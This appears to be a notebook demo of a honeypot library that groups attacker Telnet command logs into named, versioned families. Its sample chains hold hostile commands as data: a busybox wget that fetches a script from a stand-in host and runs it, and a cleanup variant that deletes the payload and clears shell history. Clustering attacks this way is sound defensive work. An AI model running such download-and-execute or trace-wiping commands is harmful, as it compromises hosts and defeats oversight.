# # Attack chains, families and versions
#
# Command logs are reduced to canonical chains, grouped into families, and
# named. Small edits to a known chain bump the family version.

# %%
from honeyloop.chains import FamilyStore, format_name, make_chain

base = ["enable", "system", "shell", "sh", "busybox wget http://x/m.sh", "chmod +x m.sh", "./m.sh"]
store = FamilyStore()
for _ in range(3):
    assignment, _ = store.ingest(make_chain(base, proto="TELNET", dest_port=23))
    print(assignment.family_id, assignment.promoted_now)

family = store.families[0]
print(format_name(family))

# %% [markdown]
# Each new chain is measured against its nearest family representative,
# which includes earlier variants. The (sequence, graph) distances decide
# the bump.

# %%
variants = {
    "renamed payload": base[:5] + ["chmod +x n.sh", "./m.sh"],
    "extra cleanup": base + ["rm m.sh", "history -c"],
    "dropped step": base[:1] + base[2:],
}
for label, tokens in variants.items():
    chain = make_chain(tokens, proto="TELNET", dest_port=23)
    assignment, version = store.ingest(chain)
    print(f"{label:16s} distance ({assignment.seq_dist}, {assignment.graph_dist})  ->  {version}")

print(format_name(store.families[0]))
